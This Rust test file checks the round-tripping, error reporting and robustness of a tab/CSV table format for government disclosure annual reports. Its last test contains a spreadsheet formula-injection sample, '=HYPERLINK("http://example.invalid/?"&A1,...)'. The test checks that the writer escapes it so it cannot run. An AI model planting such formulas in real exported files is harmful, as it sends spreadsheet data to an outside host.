//! Tidy tables give back what was written, and refuse what they could not keep.

use std::fmt::Write as _;
use std::io::{self, Read as _};

use ogi_report::form::Value;
use ogi_report::render::tidy::{self, Separator, State, TidyError};
use ogi_report::{Body, Cell, Edition, Filed, Form, Level, Year};
use proptest::prelude::*;
use proptest::sample::select;

use crate::reports::{read, real};
use crate::strategies::{filed, report};

fn write(form: &Form, separator: Separator) -> String {
    let mut table = Vec::new();
    tidy::write(form, separator, &mut table).unwrap();
    String::from_utf8(table).unwrap()
}

fn write_all(forms: &[Form], separator: Separator) -> String {
    let mut table = Vec::new();
    tidy::write_all(forms, separator, &mut table).unwrap();
    String::from_utf8(table).unwrap()
}

fn read_all(table: &str, separator: Separator) -> Vec<Result<Form, TidyError>> {
    tidy::read_all(table.as_bytes(), separator).collect()
}

/// Whether two cells say the same: numbers with their unit and their note, everything else letter by letter.
fn say_the_same(a: Option<&Filed>, b: Option<&Filed>) -> bool {
    match (a.map(Filed::value), b.map(Filed::value)) {
        (Some(number @ Value::Number { .. }), Some(other)) => number == other,
        _ => a == b,
    }
}

#[track_caller]
fn cells_say_the_same(a: &Form, b: &Form) {
    for &cell in Cell::ALL {
        assert!(say_the_same(a.get(cell), b.get(cell)), "{cell}: {:?} became {:?}", a.get(cell), b.get(cell));
    }
}

#[track_caller]
fn comes_back(forms: &[Form]) {
    for &separator in Separator::ALL {
        let table = write_all(forms, separator);
        let back: Vec<Form> = read_all(&table, separator).into_iter().map(Result::unwrap).collect();
        assert_eq!(back.len(), forms.len());
        for (form, back) in forms.iter().zip(&back) {
            assert_eq!(
                (form.edition, &form.body, form.year, form.period, form.published, &form.source),
                (back.edition, &back.body, back.year, back.period, back.published, &back.source)
            );
            cells_say_the_same(form, back);
        }
        // What came back is written as it was: numbers have one spelling, everything else is verbatim.
        assert_eq!(write_all(&back, separator), table);
        for form in forms {
            let table = write(form, separator);
            let back = tidy::read(table.as_bytes(), separator);
            if Edition::ALL.iter().all(|edition| edition.cells().iter().all(|&cell| table.contains(&cell.to_string())))
            {
                assert!(matches!(back, Err(TidyError::Edition { .. })));
                continue;
            }
            let back = back.unwrap();
            assert_eq!(back.edition, form.edition);
            cells_say_the_same(form, &back);
            assert_eq!(write(&back, separator), table);
        }
    }
}

/// Texts that a table could trip over.
fn awkward() -> impl Strategy<Value = Filed> {
    const TEXTS: &[&str] = &[
        "a\tb",
        "a,b",
        "a\nb",
        "a\r\nb",
        "\r",
        "\"",
        "\"a\"",
        "a\"b",
        "'",
        "=1+1",
        " / ",
        " 无 ",
        "\u{feff}x",
        "\0",
        "path",
        "22（其中修订16件）",
        "22(a（b))",
        "25（元）",
        "5元（件）",
        "3条",
        "－18",
        "１，２３４",
        "+5",
        "-0",
        "1.50",
        "12345678901234567890.123456789012",
        "3（万件）",
        "1 7 2",
        "x\u{2028}y",
    ];
    prop_oneof![select(TEXTS).prop_map(Filed::printed), "[\\t\\n\\r\", a1（）()元件]{0,8}".prop_map(Filed::printed)]
}

fn form() -> impl Strategy<Value = Form> {
    let cell = (select(Cell::ALL), proptest::option::of(prop_oneof![filed(), awkward()]));
    (report(), any::<bool>(), proptest::collection::vec(cell, 0..40), "[\\PC\\t\\n\",]{0,6}").prop_map(
        |(report, has_period, cells, name)| {
            let mut form = Form::from(&report);
            form.period = has_period.then(|| report.year.period());
            form.source = has_period.then(|| "https://example.gov.cn/年报,2024.html".to_owned());
            for (cell, filed) in cells {
                match filed {
                    Some(filed) => form.set(cell, filed),
                    None => form.remove(cell),
                };
            }
            match (&mut form.body, name.as_str()) {
                (body, "") => *body = None,
                (Some(body), name) if name.len() % 2 == 0 => name.clone_into(&mut body.name),
                _ => {}
            }
            form
        },
    )
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 60, failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn tables_give_back_what_was_written(forms in proptest::collection::vec(form(), 0..4)) {
        comes_back(&forms);
    }

    #[test]
    fn a_table_that_is_cut_off_is_refused(form in form(), at in any::<proptest::sample::Index>(), many in any::<bool>()) {
        let table = if many { write_all(&[form], Separator::Tab) } else { write(&form, Separator::Tab) };
        let end = at.index(table.len() - 1);
        let Some(cut) = table.get(..end) else { return Ok(()) };
        let header = table.find('\n').unwrap_or_default();
        // A table of many reports may have none.
        prop_assume!(!(many && cut.trim_end() == &table[..header]));
        if many {
            prop_assert!(read_all(cut, Separator::Tab).iter().any(Result::is_err));
        } else {
            prop_assert!(tidy::read(cut.as_bytes(), Separator::Tab).is_err());
        }
    }

    #[test]
    fn nothing_makes_it_panic(table in "(body|year|path|state|value|unit|note|requests.received.total|number|text|\\PC|[\t\n\r\",12]){0,60}") {
        for &separator in Separator::ALL {
            let _ = tidy::read(table.as_bytes(), separator);
            let _ = read_all(&table, separator);
            let headed = format!("path,state,value,unit,note\n{table}");
            let _ = tidy::read(headed.as_bytes(), separator);
        }
    }
}

#[test]
fn real_reports_come_back() {
    let forms = real();
    comes_back(&forms);
    // The same report twice in a row stays two.
    comes_back(&[forms[0].clone(), forms[0].clone()]);
    comes_back(&[Form::new(Edition::V2019), Form::new(Edition::V2021), Form::new(Edition::V2021)]);
}

#[test]
fn one_line_for_each_cell_in_printed_order() {
    for &edition in Edition::ALL {
        let table = write(&Form::new(edition), Separator::Tab);
        let paths: Vec<Cell> =
            table.lines().skip(1).map(|line| line.strip_suffix("\tabsent\t\t\t").unwrap().parse().unwrap()).collect();
        assert_eq!(paths, edition.cells());
    }
    // A cell of the other edition that is on the form has a line, too.
    let form = read("pingtan-2021");
    let others: Vec<Cell> =
        form.cells().map(|(cell, _)| cell).filter(|cell| !cell.is_printed_in(form.edition)).collect();
    let table = write(&form, Separator::Tab);
    assert_eq!(table.lines().count(), 1 + form.edition.cells().len() + others.len());
}

#[test]
fn states_are_those_of_the_cells() {
    let states = [None, Some(""), Some("不适用"), Some("12件"), Some("约12")]
        .map(|printed| State::of(printed.map(Filed::printed).as_ref()));
    assert_eq!(states, State::ALL);
}

/// The error of the table of an empty form of 2021 in which some lines are replaced.
#[track_caller]
fn refused(changes: &[(usize, &str)]) -> String {
    let table = write(&Form::new(Edition::V2021), Separator::Comma);
    let mut lines: Vec<&str> = table.lines().collect();
    for &(line, text) in changes {
        lines[line - 1] = text;
    }
    tidy::read(lines.join("\n").as_bytes(), Separator::Comma).unwrap_err().to_string()
}

#[test]
fn errors_name_line_and_column() {
    let cases: [(&[(usize, &str)], &str); 20] = [
        (
            &[(1, "path,state,value,note,unit")],
            "line 1: the header is `path state value note unit`, expected `path state value unit note`",
        ),
        (&[(3, "proactive.rules.repealed,absent,,")], "line 3: 4 fields, expected 5"),
        (&[(3, "proactive.rules.repealed,absent,,,,")], "line 3: 6 fields, expected 5"),
        (&[(3, "proactive.rules,absent,,,")], "line 3, column `path`: `proactive.rules` is not a cell of the form"),
        (
            &[(3, "proactive.rules.repealed,null,,,")],
            "line 3, column `state`: unknown name `null`, expected one of absent, blank, not_applicable, number, text",
        ),
        (
            &[(3, "proactive.rules.repealed,blank,0,,")],
            "line 3, column `value`: `0`, expected nothing because the state is blank",
        ),
        (
            &[(3, "proactive.rules.repealed,absent,,item,")],
            "line 3, column `unit`: `item`, expected nothing because the state is absent",
        ),
        (
            &[(3, "proactive.rules.repealed,text,无,,无")],
            "line 3, column `note`: `无`, expected nothing because the state is text",
        ),
        (&[(3, "proactive.rules.repealed,text,12,,")], "line 3, column `value`: `12` is number, but the state is text"),
        (&[(3, "proactive.rules.repealed,text,,,")], "line 3, column `value`: `` is blank, but the state is text"),
        (
            &[(3, "proactive.rules.repealed,not_applicable,无,,")],
            "line 3, column `value`: `无` is text, but the state is not_applicable",
        ),
        (
            &[(3, "proactive.rules.repealed,number,\"1,234\",,")],
            "line 3, column `value`: `1,234` is not a plain decimal number of at most 20 digits before the point and 12 behind it",
        ),
        (
            &[(3, "proactive.rules.repealed,number,,,")],
            "line 3, column `value`: `` is not a plain decimal number of at most 20 digits before the point and 12 behind it",
        ),
        (
            &[(3, "proactive.rules.repealed,number,1,件,")],
            "line 3, column `unit`: unknown name `件`, expected one of document, item, project, yuan, ten_thousand_yuan",
        ),
        (
            &[(3, "proactive.rules.repealed,number,1,,万件")],
            "line 3, column `note`: no cell prints this number, unit and note: `1(万件)` is read otherwise",
        ),
        (
            &[(3, "proactive.rules.repealed,number,1,,件")],
            "line 3, column `note`: no cell prints this number, unit and note: `1(件)` is read otherwise",
        ),
        (
            &[(3, "proactive.rules.issued,absent,,,")],
            "line 3, column `path`: `proactive.rules.issued` stands twice or not in printed order",
        ),
        (
            &[(3, "proactive.rules.in_force,absent,,,"), (4, "proactive.rules.repealed,absent,,,")],
            "line 4, column `path`: `proactive.rules.repealed` stands twice or not in printed order",
        ),
        (
            &[(3, "")],
            "line 201: the report ends here without a line for `proactive.rules.repealed`, which the 2021 edition prints",
        ),
        // Line breaks inside of fields count as lines.
        (
            &[(3, "proactive.rules.repealed,text,\"a\nb\nc\",,"), (9, "proactive.coercion.decisions,number,x,,")],
            "line 11, column `value`: `x` is not a plain decimal number of at most 20 digits before the point and 12 behind it",
        ),
    ];
    for (changes, message) in cases {
        assert_eq!(refused(changes), message, "{changes:?}");
    }
}

/// A line that nobody can read takes no whole report with it: it is the first of the next one.
#[test]
fn a_wrong_line_costs_its_own_report_only() {
    let forms = ["甲", "乙", "丙"].map(|name| {
        let mut form = Form::new(Edition::V2021);
        form.body = Some(Body::named(name));
        form
    });
    let table = write_all(&forms, Separator::Comma);
    let lines: Vec<&str> = table.lines().collect();
    let cells = (lines.len() - 1) / 3;
    for (line, spoilt, wrong) in
        [(1 + cells, 1, "fields"), (1 + cells, 1, "UTF-8"), (cells, 0, "fields"), (2 * cells, 1, "fields")]
    {
        let mut bytes = Vec::new();
        for (number, printed) in lines.iter().enumerate() {
            match printed.split_once(',') {
                Some((_, rest)) if number == line && wrong == "fields" => bytes.extend(rest.as_bytes()),
                Some((_, rest)) if number == line => bytes.extend([b"\xd2\xd2,", rest.as_bytes()].concat()),
                _ => bytes.extend(printed.as_bytes()),
            }
            bytes.push(b'\n');
        }
        let back: Vec<_> = tidy::read_all(bytes.as_slice(), Separator::Comma).collect();
        assert_eq!(back.len(), 3, "line {line}");
        for (at, (back, form)) in back.into_iter().zip(&forms).enumerate() {
            let is_spoilt = at == spoilt;
            match back {
                Ok(back) => assert!(!is_spoilt && back == *form, "line {line}, report {at}"),
                Err(error) => assert!(is_spoilt && error.to_string().contains(wrong), "line {line}: {error}"),
            }
        }
    }
}

#[test]
fn errors_of_many_reports_name_line_and_column() {
    let form = |name: &str| {
        let mut form = Form::new(Edition::V2021);
        form.body = Some(Body { level: Some(Level::County), ..Body::named(name) });
        form.year = Year::new(2024).ok();
        form
    };
    let forms = [form("甲"), form("乙"), form("丙")];
    let table = write_all(&forms, Separator::Comma);
    let spoilt = |from: &str, to: &str| {
        assert!(table.contains(from), "{from}");
        let back = read_all(&table.replacen(from, to, 1), Separator::Comma);
        // The first report is wrong, and the others are read.
        assert_eq!(back.len(), 3);
        assert_eq!(back[1..].iter().map(|form| form.as_ref().unwrap()).collect::<Vec<_>>(), [&forms[1], &forms[2]]);
        back[0].as_ref().unwrap_err().to_string()
    };
    let all = |column: usize, value: &str| {
        let mut spoilt = String::new();
        for (number, line) in table.lines().enumerate() {
            let mut fields: Vec<&str> = line.split(',').collect();
            if number > 0 && fields[0] == "甲" {
                fields[column] = value;
            }
            writeln!(spoilt, "{}", fields.join(",")).unwrap();
        }
        read_all(&spoilt, Separator::Comma).remove(0).unwrap_err().to_string()
    };
    let cases = [
        (all(1, "２０２４"), "line 2, column `year`: `２０２４` is not a reporting year, expected 2008 to 2999"),
        (all(1, "1999"), "line 2, column `year`: `1999` is not a reporting year, expected 2008 to 2999"),
        (all(2, ""), "line 2, column `edition`: unknown name ``, expected one of 2019, 2021"),
        (
            all(2, "2019"),
            "line 201: the report ends here without a line for `proactive.rules.newly_made`, which the 2019 edition prints",
        ),
        (
            all(3, "village"),
            "line 2, column `level`: unknown name `village`, expected one of national, provincial, prefectural, county, township",
        ),
        (all(4, "x"), "line 2, column `kind`: unknown name `x`, expected one of government, department"),
        (
            all(5, "3707"),
            "line 2, column `region`: `3707` is not a code of an administrative division, expected 6 or 9 digits",
        ),
        (all(6, "x"), "line 2, column `scope`: unknown name `x`, expected one of own_office, whole_jurisdiction"),
        (all(7, "2024-1-1"), "line 2, column `period_from`: `2024-1-1` is not a date, expected YYYY-MM-DD"),
        (all(7, "2024-01-01"), "line 2, column `period_to`: empty, but the line has a `period_from`"),
        (all(8, "2024-12-31"), "line 2, column `period_from`: empty, but the line has a `period_to`"),
        (all(9, "31.1.2025"), "line 2, column `published`: `31.1.2025` is not a date, expected YYYY-MM-DD"),
        (
            spoilt("proactive.rules.in_force,absent", "proactive.rules.in_force,zero"),
            "line 4, column `state`: unknown name `zero`, expected one of absent, blank, not_applicable, number, text",
        ),
        (
            spoilt("proactive.rules.in_force,absent,,,", "proactive.rules.in_force,absent"),
            "line 4: 13 fields, expected 16",
        ),
    ];
    for (got, expected) in cases {
        assert_eq!(got, expected);
    }
    // A line that is there twice ends the report: the lines behind it may be those of another one.
    let first = table.lines().nth(1).unwrap();
    let twice = table.replacen(first, &format!("{first}\n{first}"), 1);
    assert_eq!(
        read_all(&twice, Separator::Comma)[0].as_ref().unwrap_err().to_string(),
        "line 2: the report ends here without a line for `proactive.rules.repealed`, which the 2021 edition prints",
    );
}

#[test]
fn what_spreadsheets_do_to_a_table_is_understood() {
    let form = read("huaian-2024");
    let table = write_all(std::slice::from_ref(&form), Separator::Comma);
    let back = |table: &str| read_all(table, Separator::Comma).remove(0);
    // A mark of the byte order, line ends of two characters, lines without anything.
    let windows = format!("\u{feff}{}\r\n", table.replace('\n', "\r\n"));
    assert_eq!(back(&windows).unwrap(), back(&table).unwrap());
    let wrong = windows.replacen("proactive.rules.in_force,number", "proactive.rules.in_force,zero", 1);
    assert!(back(&wrong).unwrap_err().to_string().starts_with("line 4, column `state`: unknown name `zero`"));
    let wrong = wrong.replacen("\r\n", "\r\n\r\n\r\n", 1);
    assert!(back(&wrong).unwrap_err().to_string().starts_with("line 6, column `state`: unknown name `zero`"));
}

#[test]
fn what_is_not_text_is_refused() {
    let mut table = write(&Form::new(Edition::V2021), Separator::Tab).into_bytes();
    let at = table.windows(6).position(|bytes| bytes == b"absent").unwrap();
    table[at + 2] = 0xff;
    let error = tidy::read(table.as_slice(), Separator::Tab).unwrap_err().to_string();
    assert_eq!(error, "line 2, column `state`: not UTF-8 from byte 2 on");
    // Text of GBK, as old spreadsheets write it.
    let error = tidy::read([0xd5, 0xfe].as_slice(), Separator::Tab).unwrap_err().to_string();
    assert_eq!(error, "line 1, column `path`: not UTF-8 from byte 0 on");
    assert_eq!(read_all("", Separator::Tab).len(), 1);
}

#[test]
fn a_line_without_end_is_refused_in_bounded_memory() {
    let header = "path\tstate\tvalue\tunit\tnote\n";
    for endless in [b'x', b'"', b'\t'] {
        let table = header.as_bytes().chain(io::repeat(endless));
        let error = tidy::read(table, Separator::Tab).unwrap_err().to_string();
        assert_eq!(error, "line 2: more than 16777216 bytes");
    }
    let mut reports = tidy::read_all(io::repeat(b'x'), Separator::Comma);
    assert_eq!(reports.next().unwrap().unwrap_err().to_string(), "line 1: more than 16777216 bytes");
    assert!(reports.next().is_none());
}

#[test]
fn a_source_that_fails_is_said() {
    struct Broken;
    impl io::Read for Broken {
        fn read(&mut self, _: &mut [u8]) -> io::Result<usize> {
            Err(io::Error::other("the disk is gone"))
        }
    }
    let mut reports = tidy::read_all("path".as_bytes().chain(Broken), Separator::Comma);
    let error = reports.next().unwrap().unwrap_err();
    assert_eq!(error.to_string(), "line 1: the table could not be read");
    assert_eq!(std::error::Error::source(&error).unwrap().to_string(), "the disk is gone");
    assert!(reports.next().is_none());
}

#[test]
fn a_spreadsheet_runs_no_cell() {
    let mut form = Form::new(Edition::V2019);
    let [decisions, change] =
        ["proactive.licensing.decisions", "proactive.licensing.change"].map(|path| path.parse::<Cell>().unwrap());
    form.set(decisions, "=HYPERLINK(\"http://example.invalid/?\"&A1,\"149\")");
    form.set(change, -3);
    let table = write(&form, Separator::Spreadsheet);
    let lines: Vec<&str> = table.split("\r\n").collect();
    assert_eq!(lines[0], "\u{feff}\"path\",\"state\",\"value\",\"unit\",\"note\"");
    let line = |path: &str| *lines.iter().find(|line| line.contains(path)).unwrap();
    let text = r#""proactive.licensing.decisions","text","'=HYPERLINK(""http://example.invalid/?""&A1,""149"")","","""#;
    assert_eq!(line("licensing.decisions"), text);
    assert_eq!(line("licensing.change"), "\"proactive.licensing.change\",\"number\",\"-3\",\"\",\"\"");
    let back = tidy::read(table.as_bytes(), Separator::Spreadsheet).unwrap();
    assert_eq!(back.get(decisions), form.get(decisions));
}
